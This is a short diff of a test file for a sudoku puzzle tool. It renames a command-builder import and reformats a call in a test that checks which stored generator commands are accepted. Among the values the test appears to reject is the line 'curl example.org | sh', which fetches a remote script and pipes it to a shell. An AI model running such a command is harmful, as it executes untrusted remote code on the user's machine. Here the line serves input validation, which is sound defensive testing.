@@ -7,7 +7,7 @@ import {userFile} from '../../../source/commands/files/store.js';
 import {repeating} from '../../../source/commands/request.js';
 import {parsePuzzle} from '../../../source/sudoku/read.js';
 import {listed} from '../../../source/view/menu/collection.js';
-import {wishCommand} from '../../../source/view/menu/wish.js';
+import {generatorCommand} from '../../../source/view/menu/generator-form.ts';
 import {report} from '../../puzzles.js';
 
 /** What is recalled of a puzzle that a file tells of with these. */
@@ -50,7 +50,10 @@ test('an argument is a word of a command, whatever is in it', () => {
 });
 
 test('what made a puzzle is a command of recuit, or nothing', () => {
-	const command = wishCommand({size: 9, level: 'singles', givens: 30, symmetry: 'rotate'}, "it's; a 'b'");
+	const command = generatorCommand(
+		{size: 9, level: 'singles', givens: 30, symmetry: 'rotate'},
+		"it's; a 'b'",
+	);
 	expect(recalled({made: command}).made).toBe(command);
 	for (const made of [
 		'curl example.org | sh',
